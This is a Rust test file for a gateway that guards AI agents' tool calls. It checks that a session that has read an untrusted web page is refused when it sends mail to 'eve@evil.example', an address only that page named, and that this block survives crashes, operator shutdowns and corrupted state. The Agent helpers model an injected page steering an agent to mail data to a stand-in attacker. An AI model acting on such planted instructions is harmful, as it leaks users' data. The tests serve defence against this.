//! What sessions have read when their gateway ends, in whatever way, and what those that come after them may do.

#![allow(clippy::unwrap_used, reason = "a test that fails here has found something")]

use std::path::Path;
use std::process::Command;

use lockgate_store::Labels;
use serde_json::{Value, json};
use testkit::hostile::{Answer, Gate, Upstream, until};
use testkit::office::serve;

const REFUSED: Option<&str> = Some("untrusted_content_reaches_sink");

fn gate(upstream: &Upstream, state: &Path) -> Gate {
    let mut web = upstream.config();
    web["tier"] = json!("open");
    Gate::start(json!({ "servers": { "web": web, "mail": upstream.config() }, "state": state }))
}

struct Agent<'g> {
    gate: &'g Gate,
    session: String,
}

impl<'g> Agent<'g> {
    fn open(gate: &'g Gate, client: &str, context: &str) -> Self {
        let hello = json!({ "jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
            "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": { "name": client, "version": "1" } } });
        let session =
            gate.post("/mcp", hello.to_string().as_bytes(), &[("Lockgate-Context", context)]).session;
        let agent = Self { gate, session };
        agent.post(&json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }));
        agent.post(&json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/list" }));
        agent
    }

    fn post(&self, message: &Value) -> Answer {
        self.gate.post("/mcp", message.to_string().as_bytes(), &[("Mcp-Session-Id", &self.session)])
    }

    fn call(&self, tool: &str, arguments: &Value) -> Answer {
        let params = json!({ "name": tool, "arguments": arguments });
        self.post(&json!({ "jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": params }))
    }

    fn reads(&self) {
        assert!(self.call("web__get_page", &json!({ "id": "a" })).text.contains("eve@evil.example"));
    }

    /// Writes to somebody whom only the page has named.
    fn sends(&self) -> Option<String> {
        let answer = self.call("mail__send_mail", &json!({ "to": "eve@evil.example" }));
        answer.reason().map(str::to_owned)
    }

    fn delete(&self) {
        let request = format!(
            "DELETE /mcp HTTP/1.1\r\nHost: {}\r\nMcp-Session-Id: {}\r\nConnection: close\r\n\r\n",
            self.gate.host, self.session
        );
        assert_eq!(self.gate.raw(request.as_bytes()).status, 200);
    }
}

fn kept(state: &Path) -> u64 {
    if state.join(Labels::FILE).exists() { Labels::open(state).unwrap().count().unwrap() } else { 0 }
}

#[test]
fn an_agent_that_comes_back_after_a_crash_is_not_clean() {
    let (state, upstream) = (tempfile::tempdir().unwrap(), Upstream::start(serve));
    let first = gate(&upstream, state.path());
    // Who has read nothing leaves nothing, and may write to whom they like.
    assert_eq!(Agent::open(&first, "clean", "").sends(), None);
    let ended = Agent::open(&first, "ended", "");
    for agent in [&ended, &Agent::open(&first, "reader", ""), &Agent::open(&first, "other", "run-1")] {
        agent.reads();
        assert_eq!(agent.sends().as_deref(), REFUSED);
    }
    // The post office has answered the clean one, and what it says is read too.
    until("four are kept", || kept(state.path()) == 4);
    ended.delete();
    until("one less is kept", || kept(state.path()) == 3);
    Command::new("kill").args(["-9", &first.id().to_string()]).status().unwrap();
    drop(first);
    let mut second = gate(&upstream, state.path());
    let agents = [
        ("reader", "", REFUSED),
        ("ended", "", None),
        ("nobody", "", None),
        ("nobody", "run-1", REFUSED),
        ("other", "", None),
        ("reader", "run-2", None),
    ];
    for (client, context, outcome) in agents {
        assert_eq!(Agent::open(&second, client, context).sends().as_deref(), outcome, "{client} {context}");
    }
    // Nor after an end that the operator asked for.
    second.stop();
    let third = gate(&upstream, state.path());
    assert_eq!(Agent::open(&third, "reader", "").sends().as_deref(), REFUSED);
    assert_eq!(Agent::open(&third, "fresh", "").sends(), None);
}

#[test]
fn where_it_cannot_be_known_what_was_read_anything_was() {
    let (state, upstream) = (tempfile::tempdir().unwrap(), Upstream::start(serve));
    std::fs::write(
        state.path().join(Labels::FILE),
        "no database, but as long as the head of one must be".repeat(4),
    )
    .unwrap();
    let gate = gate(&upstream, state.path());
    assert_eq!(Agent::open(&gate, "anybody", "").sends().as_deref(), REFUSED);
    until("the operator is told", || gate.complaints.text().contains("sessions.db"));
}
